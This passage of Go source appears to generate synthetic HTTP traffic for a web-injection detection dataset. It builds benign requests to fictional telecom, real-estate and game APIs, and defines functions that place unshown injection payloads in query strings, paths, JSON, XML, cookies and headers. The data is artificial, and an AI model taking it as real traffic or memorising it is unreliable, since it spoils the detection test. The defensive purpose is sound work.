			cl["exp"] = h6Base.Add(-3 * time.Hour).Unix()
			cl["iat"] = h6Base.Add(-4 * time.Hour).Unix()
			cl["nbf"] = cl["iat"]
			x.authHdr = h6Sign(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-10-key_3"}, cl)
			x.rhdr = map[string]string{"WWW-Authenticate": `Bearer error="invalid_token", error_description="The access token expired"`}
			g.benignX(x)
		default:
			// OAuth client-credentials token response
			tok := u.token
			x := g.ok(u, "POST", "/oauth/token", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, h6Form("grant_type", "client_credentials", "scope", "messages:write calls:read"), 200,
				h6JSONOf(map[string]any{"access_token": tok, "token_type": "Bearer", "expires_in": 3600, "scope": "messages:write calls:read"}))
			x.noAuth = true
			x.hdr["Authorization"] = "Basic " + base64.StdEncoding.EncodeToString([]byte("ci_"+g.alnum(20, h6AN)+":"+g.alnum(32, h6AN)))
			g.benignX(x)
		}
	}
}

var h6Descs = []string{
	`<p><strong>Sunny 3-bed Victorian</strong> on a quiet street, 5 min walk to Union Square.</p><ul><li>Original cornicing</li><li>South-facing garden (60 ft)</li><li>Select upgrades included: oak floors, Miele appliances</li></ul>`,
	`<h3>Loft conversion with views</h3><p>Drop-off zone in front; bike storage &amp; gym. <em>Price &gt; $1M? Ask about seller financing.</em></p><p><a href="https://tour.homestead.test/v/8812">Virtual tour</a></p>`,
	`<p>Charming cottage — "needs TLC". Roof replaced 2019; boiler 2021.<br>Offers over £325,000 or a 30-day rent-back.</p>`,
	`<div class="features"><span>4 bd</span> | <span>2.5 ba</span> | <span>2,400 sq ft</span></div><p>Close to O'Hare, Metra &amp; schools (rated 9/10).</p>`,
	`<p>Appartement lumineux, 3 pièces, proche métro. Cave &amp; parking inclus.</p><p>DPE: C — charges 180 €/mois.</p>`,
	`<p>Helle 2-Zimmer-Wohnung mit Balkon, Fußbodenheizung, Einbauküche. Provisionsfrei!</p>`,
	`<p>駅徒歩5分・南向き・ペット可。2LDK、リノベーション済み。</p>`,
	`<p>Investor special: 6 units, cap rate 7.2%. Rent roll: 1=studio, 2=1-bed... see table below.</p><table><tr><th>Unit</th><th>Rent</th></tr><tr><td>1A</td><td>$1,450</td></tr></table>`,
	`<p>Waterfront condo. HOA covers water/sewer/trash; select furnishings negotiable. <a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">Drone video</a></p>`,
	`<p>Casa con piscina y jardín 🌴 — a 10 min de la playa. <b>¡Oportunidad!</b></p>`,
	`<p>Corner lot; zoning R-2. Buyer to verify: "sq ft &lt; 2,000 per county records". Seller's agent: D'Angelo Realty.</p>`,
	`<p><img src="https://cdn.homestead.test/p/88123/kitchen-1280.jpg" alt="Kitchen" width="640"> Renovated kitchen with island.</p>`,
}

var h6Cities = []string{"Austin", "Brooklyn", "San Francisco", "Leeds", "Lyon", "München", "Osaka", "Coeur d'Alene", "St. John's", "Zürich", "Union City", "Select Harbor"}

func (g *h6Gen) listing(id int) map[string]any {
	return map[string]any{"id": id, "title": g.pick([]string{"3-bed Victorian", "Loft w/ views", "Cottage (needs TLC)", "Corner lot R-2", "Waterfront condo", "Casa con piscina"}),
		"price": 180000 + g.r.IntN(90)*25000, "currency": "USD", "city": g.pick(h6Cities), "bedrooms": 1 + g.r.IntN(5), "description_html": g.pick(h6Descs),
		"photos": []map[string]any{{"url": fmt.Sprintf("https://cdn.homestead.test/p/%d/%s.jpg", id, g.alnum(10, h6Hex)), "sha256": g.alnum(64, h6Hex), "size": 200000 + g.r.IntN(900000)}},
		"agent":  map[string]any{"name": g.pick([]string{"Siobhán O'Neill", "Marco D'Angelo", "Priya Raman", "Jean-Luc Picard"}), "phone": g.pick(h6Phones)}}
}

func (g *h6Gen) homeBenign(w *h6World, n int) {
	for i := 0; i < n; i++ {
		u := w.buyers[g.r.IntN(len(w.buyers))]
		switch k := g.r.IntN(22); {
		case k < 5:
			// search, sometimes anonymous
			if g.r.IntN(3) == 0 {
				u = w.visitors[g.r.IntN(len(w.visitors))]
			}
			q := h6Q("city", g.pick(h6Cities), "filters[price][$gte]", fmt.Sprint(200000+g.r.IntN(10)*50000), "filters[price][$lte]", fmt.Sprint(900000+g.r.IntN(10)*50000),
				"filters[bedrooms][$gte]", fmt.Sprint(1+g.r.IntN(4)), "sort", g.pick([]string{"-listed_at", "price", "price desc", "distance"}), "per_page", g.pick([]string{"24", "48", "100", "1000"}))
			items := []map[string]any{g.listing(88000 + g.r.IntN(9000)), g.listing(88000 + g.r.IntN(9000))}
			x := g.ok(u, "GET", "/api/listings?"+q, nil, "", 200, h6JSONOf(map[string]any{"data": items, "pagination": map[string]any{"page": 1, "per_page": 24, "total": 212}}))
			g.benignX(x)
		case k < 8:
			if g.r.IntN(3) == 0 {
				u = w.visitors[g.r.IntN(len(w.visitors))]
			}
			id := 88000 + g.r.IntN(9000)
			g.benignX(g.ok(u, "GET", fmt.Sprintf("/api/listings/%d", id), nil, "", 200, h6JSONOf(g.listing(id))))
		case k < 9:
			body := map[string]any{"query": map[string]any{"city": g.pick(h6Cities), "price": map[string]any{"$lte": 750000}, "bedrooms": map[string]any{"$gte": 2}, "tags": map[string]any{"$in": []string{"garden", "parking"}}},
				"page": map[string]any{"number": 2, "size": 50}}
			g.benignX(g.ok(u, "POST", "/api/listings/search", h6JSONH(), h6JSONOf(body), 200, h6JSONOf(map[string]any{"data": []any{g.listing(88000 + g.r.IntN(9000))}, "page": map[string]any{"number": 2, "size": 50, "total_pages": 5}})))
		case k < 11:
			inc := 38000 + g.r.IntN(200)*1000
			body := map[string]any{"applicant": map[string]any{"first_name": g.pick([]string{"Seán", "Amara", "Chloé", "Dmitri", "Aoife", "Nguyễn"}), "last_name": g.pick([]string{"O'Reilly", "D'Souza", "Smith-Jones", "Select", "Union"}),
				"ssn_last4": g.digits(4), "dob": "1988-04-1" + g.digits(1), "employment": map[string]any{"employer": g.pick([]string{"Oracle Corporation", "Union Pacific Railroad", "Select Medical", "Drop Forge Inc.", "St. Mary's Hospital"}),
					"title": g.pick([]string{"DBA", "Nurse", "Engineer", "Teacher"}), "annual_income": inc}},
				"property_id": 88000 + g.r.IntN(9000), "loan": map[string]any{"amount": 250000 + g.r.IntN(40)*10000, "term_months": 360, "type": "30-year fixed"},
				"notes": g.pick([]string{"Co-borrower to be added later -- spouse.", "Gift letter from parents (£20k) attached - please pick gift as the source of funds.", "Income > 100k incl. bonus; see W-2s.", "Please call after 5pm; I work nights :)", ""})}
			g.benignX(g.ok(u, "POST", "/api/mortgage/applications", h6JSONH(), h6JSONOf(body), 201, h6JSONOf(map[string]any{"id": "app_" + g.alnum(16, h6AN), "status": "submitted", "next_step": "upload_documents"})))
		case k < 13:
			bd := "----WebKitFormBoundary" + g.alnum(16, h6AN)
			fn := g.pick([]string{"W-2_2025.pdf", "paystub_nov.pdf", "bank statement (Oct).pdf", "passport_scan.jpg", "gift_letter_O'Reilly.pdf"})
			body := h6Multipart(bd, [3]string{"type", "", g.pick([]string{"w2", "paystub", "bank_statement", "id"})}, [3]string{"description", "", g.pick([]string{"2025 W-2 from Union Pacific", "Nov paystub (select pages)", "Statement -- all 4 pages", "ID front/back"})},
				[3]string{"file", fn, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n"})
			g.benignX(g.ok(u, "POST", "/api/mortgage/applications/app_"+g.alnum(16, h6AN)+"/documents", map[string]string{"Content-Type": "multipart/form-data; boundary=" + bd}, body, 201,
				h6JSONOf(map[string]any{"id": "doc_" + g.alnum(12, h6AN), "filename": fn, "size": 48213 + g.r.IntN(900000), "sha256": g.alnum(64, h6Hex),
					"upload_url": "https://homestead-docs.s3.amazonaws.com/uploads/" + g.alnum(20, h6Hex) + "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20261124%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20261124T090000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=" + g.alnum(64, h6Hex)})))
		case k < 14:
			// credit check result: masked accounts
			g.benignX(g.ok(u, "POST", "/api/mortgage/applications/app_"+g.alnum(16, h6AN)+"/credit-check", h6JSONH(), `{"consent":true,"bureau":"experian"}`, 200, h6JSONOf(map[string]any{
				"score": 640 + g.r.IntN(180), "model": "FICO 8", "tradelines": []map[string]any{{"creditor": "CHASE CARD", "account": "XXXX-XXXX-XXXX-" + g.digits(4), "balance": 1820, "status": "current"},
					{"creditor": "AMEX", "account_number": "**** ****** *" + g.digits(4), "balance": 0}, {"creditor": "Union Credit", "account_last4": g.digits(4), "balance": 12400}},
				"report_ref": g.h6NotLuhn("4", 16), "hash": "W/\"" + g.alnum(40, h6Hex) + "\""})))
		case k < 15:
			// application fee checkout: payment intent client secret and publishable key
			pi := "pi_3Q" + g.alnum(22, h6AN)
			g.benignX(g.ok(u, "POST", "/api/mortgage/applications/app_"+g.alnum(16, h6AN)+"/fee", h6JSONH(), `{"amount":49500,"currency":"usd"}`, 200, h6JSONOf(map[string]any{
				"payment_intent": pi, "client_secret": pi + "_secret_" + g.alnum(25, h6AN), "publishable_key": "pk_live_51N" + g.alnum(90, h6AN), "card_display": "Visa •••• 4242", "amount": 49500})))
		case k < 17:
			a := w.agents[g.r.IntN(len(w.agents))]
			body := map[string]any{"title": g.pick([]string{"3-bed Victorian", "Loft w/ views", "Cottage (needs TLC)"}), "price": 325000 + g.r.IntN(100)*5000, "description_html": g.pick(h6Descs), "address": map[string]any{"line1": g.pick([]string{"12 O'Farrell St", "221B Baker Street", "4 Rue de l'Église", "1-2-3 Namba, Chuo-ku"}), "city": g.pick(h6Cities)}}
			g.benignX(g.ok(a, "POST", "/api/listings", h6JSONH(), h6JSONOf(body), 201, h6JSONOf(map[string]any{"id": 88000 + g.r.IntN(9000), "status": "draft"})))
		case k < 18:
			a := w.agents[g.r.IntN(len(w.agents))]
			id := 88000 + g.r.IntN(9000)
			feed := `<?xml version="1.0" encoding="UTF-8"?><feed xmlns="urn:homestead:feed:2" agency="BRK-` + g.digits(5) + `"><listing ref="L-` + g.digits(6) + `"><title>` + h6XMLEsc(g.pick([]string{"Cottage (needs TLC)", "Loft w/ views & gym", "Appartement 3 pièces"})) + `</title><price currency="EUR">` + fmt.Sprint(200000+g.r.IntN(90)*5000) + `</price><description><![CDATA[` + g.pick(h6Descs) + `]]></description><photo url="https://media.agency-feeds.eu/` + g.alnum(12, h6Hex) + `.jpg"/></listing></feed>`
			g.benignX(g.ok(a, "POST", "/api/feeds/agency", map[string]string{"Content-Type": "application/xml"}, feed, 202, h6JSONOf(map[string]any{"accepted": 1, "listing_ids": []int{id}})))
		case k < 19:
			a := w.agents[g.r.IntN(len(w.agents))]
			bd := "----NebulaBoundary" + g.alnum(12, h6AN)
			body := h6Multipart(bd, [3]string{"caption", "", g.pick([]string{"Kitchen <3", "Garden (south-facing)", "Bedroom 2 -- select view", "Living room 2 > 1 ;)"})}, [3]string{"photo", "IMG_" + g.digits(4) + ".jpg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00"})
			g.benignX(g.ok(a, "POST", fmt.Sprintf("/api/listings/%d/photos", 88000+g.r.IntN(9000)), map[string]string{"Content-Type": "multipart/form-data; boundary=" + bd}, body, 201, h6JSONOf(map[string]any{"id": "ph_" + g.alnum(10, h6AN), "sha256": g.alnum(64, h6Hex)})))
		case k < 20:
			a := w.agents[g.r.IntN(len(w.agents))]
			g.benignX(g.ok(a, "POST", fmt.Sprintf("/api/listings/%d/photos/import", 88000+g.r.IntN(9000)), h6JSONH(), h6JSONOf(map[string]any{"image_url": g.pick([]string{"https://media.agency-feeds.eu/a1/88123.jpg", "https://images.unsplash.com/photo-1568605114967-8130f3a36994?w=1280", "https://drive.agency.example.com/share/kitchen.jpg", "https://151.101.1.69/img/front.jpg"})}), 202, `{"status":"queued"}`))
		case k < 21:
			uw := w.underwriters[g.r.IntN(len(w.underwriters))]
			g.benignX(g.ok(uw, "GET", "/api/mortgage/applications?"+h6Q("status", "in_review", "pageSize", g.pick([]string{"50", "200", "1000"}), "assigned_to", uw.sub), nil, "", 200, h6JSONOf(map[string]any{"items": []map[string]any{{"id": "app_" + g.alnum(16, h6AN), "applicant": "O'Reilly, Seán", "ltv": 0.8, "dti": 0.31}}, "pageSize": 50})))
		default:
			g.benignX(g.ok(u, "POST", "/api/contact-agent", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, h6Form("listing_id", fmt.Sprint(88000+g.r.IntN(9000)), "message", g.pick([]string{
				"Is the garden south-facing? Also -- is the union dues thing for the HOA?", "Can we view Sat 10am? We'd select the 2nd floor unit.", "Price seems high; comps at 1=1.2x sqft... open to offers?",
				"¿Se admiten mascotas? Tenemos un gato 🐱", "ペット可ですか？", "Hi! Re: <b>Loft</b> — is parking included?", "We'd drop our offer to $410k if the roof isn't done."})), 200, `{"sent":true}`))
		}
	}
}

var h6Chat = []string{"gg ez no re", "lol that 1v1 was insane", "who's down for ranked? need 1 more", "<3 ty for the carry", ">_< lagging so hard rn",
	"ping 250ms from EU west, rip", "^_^ nice shot", "select the sniper next round pls", "drop the flag and run!!", "union of the two squads when?",
	"OR we just rush B", "if (hp < 20) { heal(); } else { push(); } xD", "brb 5 min", "my server is on localhost:25565 if u wanna test mods",
	"that was a 1=1 trade tbh", "`/give @s nebula_blade 1` doesn't work anymore??", "rip my k/d :'(", `¯\_(ツ)_/¯`, "ggwp 🔥🔥", "qué lag hermano",
	"спасибо за игру", "このマップ好き", "kek", "it says ${playerName} joined lol bugged chat", "{{guild_tag}} shows up instead of my tag??",
	"NullPointer popup again after the match lol devs pls", "pets: cat; dog; hamster lol", "<b>bold</b> doesn't work in chat?", "team 2 > team 1 fr",
	"-- GG --", "wp all o7", "who drops mid? 💀", "1v1 me bro, 'no scope' only", "uwu", "imagine using the default skin 😂", "let's go!!! ez 3-0",
	"report xX_Sn1per_Xx for aimbot pls", "did u see the patch notes? they nerfed the railgun by 15%", "我们赢了！", "안녕 친구들 ㅋㅋㅋ", "ok boomer :P",
	"AFK 2 min; dog needs a walk", "sry mic broken", "C:\\Games\\Nebula\\mods is where the configs go", "anyone selling the Union Jack skin?",
	"rm me from the party pls i gotta go", "sudo make me a sandwich lmao", "while(true) { grind(); }", "<<< noob >>>", "Drop table? nah drop the loot",
}

func (g *h6Gen) gameBenign(w *h6World, n int) {
	for i := 0; i < n; i++ {
		u := w.players[g.r.IntN(len(w.players))]
		switch k := g.r.IntN(22); {
		case k < 3:
			g.benignX(g.ok(u, "GET", "/v1/players/me", nil, "", 200, h6JSONOf(map[string]any{"id": u.sub, "handle": u.handle, "level": 1 + g.r.IntN(120), "mmr": 900 + g.r.IntN(2000),
				"region": g.pick([]string{"eu-west", "na-east", "ap-northeast", "sa-east"}), "steam_id": "7656119" + g.digits(10), "friend_code": "SW-" + g.digits(4) + "-" + g.digits(4) + "-" + g.digits(4)})))
		case k < 5:
			p := w.players[g.r.IntN(len(w.players))]
			g.benignX(g.ok(u, "GET", "/v1/players/"+p.sub, nil, "", 200, h6JSONOf(map[string]any{"id": p.sub, "handle": p.handle, "bio": g.pick(h6Chat), "badges": []string{"season_9_gold", "union_of_legends"}})))
		case k < 6:
			g.benignX(g.ok(u, "GET", "/v1/players/search?"+h6Q("handle", g.pick([]string{"drop", "O'Mal", "select", "小", "xX_", "union"}), "limit", "20"), nil, "", 200, `{"results":[]}`))
		case k < 9:
			ch := g.pick([]string{"global-eu", "guild-4412", "match-" + g.digits(9), "lfg"})
			msg := g.pick(h6Chat)
			g.benignX(g.ok(u, "POST", "/v1/chat/channels/"+ch+"/messages", h6JSONH(), h6JSONOf(map[string]any{"text": msg, "client_msg_id": g.alnum(26, h6Upper)}), 201,
				h6JSONOf(map[string]any{"id": g.digits(19), "text": msg, "author": map[string]any{"id": u.sub, "handle": u.handle}, "ts": h6Base.Unix()})))
		case k < 11:
			season := g.pick([]string{"s9", "s10", "2026-winter"})
			lim := g.pick([]string{"10", "50", "100", "500", "1000"})
			g.benignX(g.ok(u, "GET", "/v1/leaderboards/"+season+"?"+h6Q("limit", lim, "offset", fmt.Sprint(g.r.IntN(20)*100), "region", "eu-west"), nil, "", 200,
				h6JSONOf(map[string]any{"season": season, "entries": []map[string]any{{"rank": 1, "handle": "MaxPower", "rating": 3211}, {"rank": 2, "handle": "桜吹雪", "rating": 3190}}, "limit": lim})))
		case k < 13:
			q := `query Leaderboard($season: ID!, $limit: Int, $region: String) { leaderboard(season: $season, limit: $limit, region: $region) { rank rating player { id handle avatarUrl } } }`
			g.benignX(g.ok(u, "POST", "/graphql", h6JSONH(), h6JSONOf(map[string]any{"operationName": "Leaderboard", "query": q, "variables": map[string]any{"season": "s10", "limit": []int{25, 100, 250}[g.r.IntN(3)], "region": "eu-west"}}), 200,
				`{"data":{"leaderboard":[{"rank":1,"rating":3211,"player":{"id":"plr_58007919","handle":"MaxPower","avatarUrl":"https://cdn.nebulaplay.test/a/58007919.png"}}]}}`))
		case k < 14:
			q := `mutation Equip($slot: Int!, $itemId: ID!) { equip(slot: $slot, itemId: $itemId) { ok inventory { slot item { id name rarity } } } }`
			g.benignX(g.ok(u, "POST", "/graphql", h6JSONH(), h6JSONOf(map[string]any{"query": q, "variables": map[string]any{"slot": 2, "itemId": "itm_" + g.alnum(12, h6AN)}}), 200, `{"data":{"equip":{"ok":true}}}`))
		case k < 16:
			items := []map[string]any{{"id": "itm_" + g.alnum(12, h6AN), "name": g.pick([]string{"Railgun <Mk II>", "Union Jack skin", "Drop Pod", "Select-fire Carbine", "Dragon's Breath"}), "qty": 1 + g.r.IntN(64), "hash": g.alnum(40, h6Hex)}}
			g.benignX(g.ok(u, "GET", "/v1/inventory?"+h6Q("per_page", g.pick([]string{"50", "200", "1000"})), nil, "", 200, h6JSONOf(map[string]any{"items": items})))
		case k < 17:
			g.benignX(g.ok(u, "POST", "/v1/matches/queue", h6JSONH(), h6JSONOf(map[string]any{"mode": g.pick([]string{"ranked", "casual", "2v2"}), "region": "eu-west", "party": []string{u.sub}}), 202, h6JSONOf(map[string]any{"ticket": "tk_" + g.alnum(20, h6AN), "eta_s": 40})))
		case k < 18:
			id := g.digits(10)
			g.benignX(g.ok(u, "GET", "/v1/matches/"+id, nil, "", 200, h6JSONOf(map[string]any{"id": id, "map": g.pick([]string{"Union Station", "Drop Zone", "Select Ridge"}), "score": "13-11", "duration_s": 1804, "replay_sha1": g.alnum(40, h6Hex)})))
		case k < 19:
			g.benignX(g.ok(u, "PATCH", "/v1/players/me", h6JSONH(), h6JSONOf(map[string]any{"profile": map[string]any{"bio": g.pick(h6Chat), "socials": map[string]any{"twitch": "https://twitch.tv/" + strings.ToLower(strings.Trim(u.handle, "<>!'")), "youtube": "https://youtube.com/@nebula"}}}), 200, `{"ok":true}`))
		case k < 20:
			g.benignX(g.ok(u, "POST", "/v1/reports", h6JSONH(), h6JSONOf(map[string]any{"type": "bug", "text": g.pick([]string{"Game crashed: got a NullReferenceException popup after the match, then the client froze. Build 1.42.0",
				"Error 'Exception in thread main' showed on screen at launch, then it loaded fine", "Stuck at 99% loading after select map, had to alt-f4", "chat shows {{guild_tag}} literally", "traceback?? it just said 'segfault' and closed"}),
				"client_build": "1.42.0", "os": "Windows 11"}), 201, `{"id":"rep_`+g.alnum(10, h6AN)+`","status":"received"}`))
		case k < 21:
			// expired token refused
			x := g.ok(u, "GET", "/v1/players/me", nil, "", 401, `{"error":"token_expired"}`)
			cl := h6Claims(u.sub, "player", h6Game)
			cl["exp"] = h6Base.Add(-26 * time.Hour).Unix()
			cl["iat"] = h6Base.Add(-27 * time.Hour).Unix()
			cl["nbf"] = cl["iat"]
			x.authHdr = h6Sign(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, cl)
			g.benignX(x)
		default:
			a := w.admins[g.r.IntN(len(w.admins))]
			if g.r.IntN(2) == 0 {
				g.benignX(g.ok(a, "GET", "/v1/admin/reports?"+h6Q("status", "open", "per_page", "100"), nil, "", 200, h6JSONOf(map[string]any{"reports": []map[string]any{{"id": "rep_" + g.alnum(10, h6AN), "text": "aimbot?", "against": "plr_58015838"}}})))
			} else {
				p := w.players[g.r.IntN(len(w.players))]
				g.benignX(g.ok(a, "POST", "/v1/admin/players/"+p.sub+"/mute", h6JSONH(), h6JSONOf(map[string]any{"minutes": 30, "reason": "spam in global-eu (\"gg ez\" x40)"}), 200, `{"ok":true}`))
			}
		}
	}
}

func (g *h6Gen) benignTraffic(w *h6World) {
	// admins work early so that their cohort counts as an admin cohort.
	for _, a := range w.admins {
		g.benignX(g.ok(a, "GET", "/v1/admin/reports?"+h6Q("status", "open", "per_page", "50"), nil, "", 200, `{"reports":[]}`))
	}
	// interleave the three APIs in a seeded order
	var tel, home, game []*h6X
	save := g.benign
	g.benign = nil
	g.telBenign(w, 415)
	tel, g.benign = g.benign, nil
	g.homeBenign(w, 415)
	home, g.benign = g.benign, nil
	g.gameBenign(w, 420)
	game, g.benign = g.benign, save
	for len(tel)+len(home)+len(game) > 0 {
		n := g.r.IntN(len(tel) + len(home) + len(game))
		switch {
		case n < len(tel):
			g.benign, tel = append(g.benign, tel[0]), tel[1:]
		case n < len(tel)+len(home):
			g.benign, home = append(g.benign, home[0]), home[1:]
		default:
			g.benign, game = append(g.benign, game[0]), game[1:]
		}
	}
	g.benignPolish()
}

// benignPolish adds CORS for the sites' own browser apps, public CORS
// without credentials, and some ordinary errors without any internals.
func (g *h6Gen) benignPolish() {
	errs := map[string][]string{
		h6Tel: {`{"code":30008,"message":"Unknown error from carrier. Retry later.","more_info":"https://docs.relaytel.test/errors/30008"}`,
			`{"code":21211,"message":"The 'To' number +44 7700 900 is not a valid phone number.","more_info":"https://docs.relaytel.test/errors/21211"}`},
		h6Home: {`{"error":"service_unavailable","detail":"Listing search is being re-indexed. Please retry in a minute."}`,
			`{"error":"validation_failed","fields":{"loan.term_months":"must be one of 180, 240, 360"}}`},
		h6Game: {`{"error":"rate_limited","message":"Slow down! Too many requests; retry after 3s","retry_after":3}`,
			`{"error":"match_not_found","message":"That match has expired (replays are kept for 30 days)"}`},
	}
	for i, x := range g.benign {
		host := x.u.host
		if x.u.ua != "" && strings.HasPrefix(x.u.ua, "Mozilla/") && host == h6Home && x.u.token != "" && !x.noAuth {
			if x.hdr == nil {
				x.hdr = map[string]string{}
			}
			x.hdr["Origin"] = "https://www.homestead.test"
			if x.rhdr == nil {
				x.rhdr = map[string]string{}
			}
			x.rhdr["Access-Control-Allow-Origin"] = "https://www.homestead.test"
			x.rhdr["Access-Control-Allow-Credentials"] = "true"
			x.rhdr["Vary"] = "Origin"
		}
		if host == h6Game && strings.Contains(x.url, "/leaderboards/") {
			if x.hdr == nil {
				x.hdr = map[string]string{}
			}
			x.hdr["Origin"] = g.pick([]string{"https://stats-fan-site.example", "https://www.nebulaplay.test", "https://esports.example.org"})
			if x.rhdr == nil {
				x.rhdr = map[string]string{}
			}
			x.rhdr["Access-Control-Allow-Origin"] = "*"
		}
		if i%41 == 17 && x.status >= 200 && x.status < 300 && x.authHdr == "" {
			e := errs[host][g.r.IntN(2)]
			x.rbody = e
			x.status = map[string]int{h6Tel: 502, h6Home: 503, h6Game: 429}[host]
			if strings.Contains(e, "not a valid") || strings.Contains(e, "validation") {
				x.status = 400
			}
			if strings.Contains(e, "expired") {
				x.status = 404
			}
		}
	}
}

// h6Place puts an injection payload somewhere in a request of one of the APIs.
type h6Place func(g *h6Gen, w *h6World, p string) *h6X

func (g *h6Gen) atk(list []*h6User) *h6User { return list[g.r.IntN(len(list))] }

var h6Places = []h6Place{
	func(g *h6Gen, w *h6World, p string) *h6X { // 0 telecom query
		u := g.atk(w.atkTel)
		return g.ok(u, "GET", "/v2/accounts/"+u.acct+"/messages?"+h6Q("page_size", "50", "to", p), nil, "", 400, `{"code":21211,"message":"Invalid 'To' filter"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 1 numbers search
		u := g.atk(w.atkTel)
		return g.ok(u, "GET", "/v2/numbers/available?"+h6Q("country", "GB", "contains", p, "limit", "20"), nil, "", 200, `{"available_phone_numbers":[]}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 2 lookup path segment
		u := g.atk(w.atkTel)
		return g.ok(u, "GET", "/v2/lookup/"+url.PathEscape(p)+"?fields=carrier", nil, "", 404, `{"code":20404,"message":"The requested resource was not found"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 3 SMS body
		u := g.atk(w.atkTel)
		return g.ok(u, "POST", "/v2/accounts/"+u.acct+"/messages", h6JSONH(), h6JSONOf(map[string]any{"to": "+447700900123", "from": "+447700900999", "body": p}), 201, `{"sid":"SM`+g.alnum(32, h6Hex)+`","status":"queued"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 4 template, JSON at depth
		u := g.atk(w.atkTel)
		return g.ok(u, "POST", "/v2/accounts/"+u.acct+"/templates", h6JSONH(), h6JSONOf(map[string]any{"name": "promo", "locales": []map[string]any{{"lang": "en", "body": "Hi {{first_name}}", "meta": map[string]any{"tags": []string{"promo", p}}}}}), 201, `{"id":"TP`+g.alnum(32, h6Hex)+`","status":"pending_review"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 5 carrier DLR form, anonymous
		u := g.atk(w.atkTel)
		x := g.ok(u, "POST", "/carrier/dlr", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, h6Form("MessageSid", "SM"+g.alnum(32, h6Hex), "MessageStatus", p, "ErrorCode", "0"), 400, `{"error":"bad signature"}`)
		x.noAuth = true
		return x
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 6 cookie
		u := g.atk(w.atkTel)
		return g.ok(u, "GET", "/v2/accounts/"+u.acct+"/messages?page_size=20", map[string]string{"Cookie": "console_lang=" + url.QueryEscape(p) + "; rt_session=" + g.alnum(32, h6AN)}, "", 200, `{"messages":[],"page":0}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 7 User-Agent
		u := g.atk(w.atkTel)
		return g.ok(u, "GET", "/v2/accounts/"+u.acct+"/calls?per_page=50", map[string]string{"User-Agent": p}, "", 200, `{"calls":[]}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 8 listings query
		u := g.atk(w.atkHome)
		return g.ok(u, "GET", "/api/listings?"+h6Q("city", p, "per_page", "24"), nil, "", 200, `{"data":[],"pagination":{"page":1,"per_page":24,"total":0}}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 9 listing path
		u := g.atk(w.atkHome)
		return g.ok(u, "GET", "/api/listings/"+url.PathEscape(p), nil, "", 404, `{"error":"listing not found"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 10 application JSON at depth
		u := g.atk(w.atkHome)
		return g.ok(u, "POST", "/api/mortgage/applications", h6JSONH(), h6JSONOf(map[string]any{"applicant": map[string]any{"first_name": "Sam", "last_name": "Hill", "employment": map[string]any{"employer": p, "annual_income": 72000}}, "loan": map[string]any{"amount": 300000, "term_months": 360}}), 201, `{"id":"app_`+g.alnum(16, h6AN)+`","status":"submitted"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 11 contact form
		u := g.atk(w.atkHome)
		return g.ok(u, "POST", "/api/contact-agent", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, h6Form("listing_id", "88123", "message", p), 200, `{"sent":true}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 12 multipart field
		u := g.atk(w.atkHome)
		bd := "----WebKitFormBoundary" + g.alnum(16, h6AN)
		body := h6Multipart(bd, [3]string{"type", "", "paystub"}, [3]string{"description", "", p}, [3]string{"file", "paystub.pdf", "%PDF-1.7\n1 0 obj << >> endobj\n"})
		return g.ok(u, "POST", "/api/mortgage/applications/app_"+g.alnum(16, h6AN)+"/documents", map[string]string{"Content-Type": "multipart/form-data; boundary=" + bd}, body, 201, `{"id":"doc_`+g.alnum(12, h6AN)+`"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 13 agency XML feed element
		u := g.atk(w.atkHome)
		feed := `<?xml version="1.0" encoding="UTF-8"?><feed xmlns="urn:homestead:feed:2" agency="BRK-` + g.digits(5) + `"><listing ref="L-` + g.digits(6) + `"><title>` + h6XMLEsc(p) + `</title><price currency="EUR">250000</price></listing></feed>`
		return g.ok(u, "POST", "/api/feeds/agency", map[string]string{"Content-Type": "application/xml"}, feed, 202, `{"accepted":1}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 14 X- header
		u := g.atk(w.atkHome)
		return g.ok(u, "GET", "/api/listings?per_page=24&city=Leeds", map[string]string{"X-Agency-Ref": p}, "", 200, `{"data":[]}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 15 cookie
		u := g.atk(w.atkHome)
		return g.ok(u, "GET", "/api/listings/88123", map[string]string{"Cookie": "hs_sid=" + g.alnum(40, h6AN) + "; recently_viewed=" + url.QueryEscape(p)}, "", 200, `{"id":88123,"title":"Loft w/ views"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 16 player search
		u := g.atk(w.atkGame)
		return g.ok(u, "GET", "/v1/players/search?"+h6Q("handle", p, "limit", "20"), nil, "", 200, `{"results":[]}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 17 match path
		u := g.atk(w.atkGame)
		return g.ok(u, "GET", "/v1/matches/"+url.PathEscape(p), nil, "", 404, `{"error":"match not found"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 18 chat
		u := g.atk(w.atkGame)
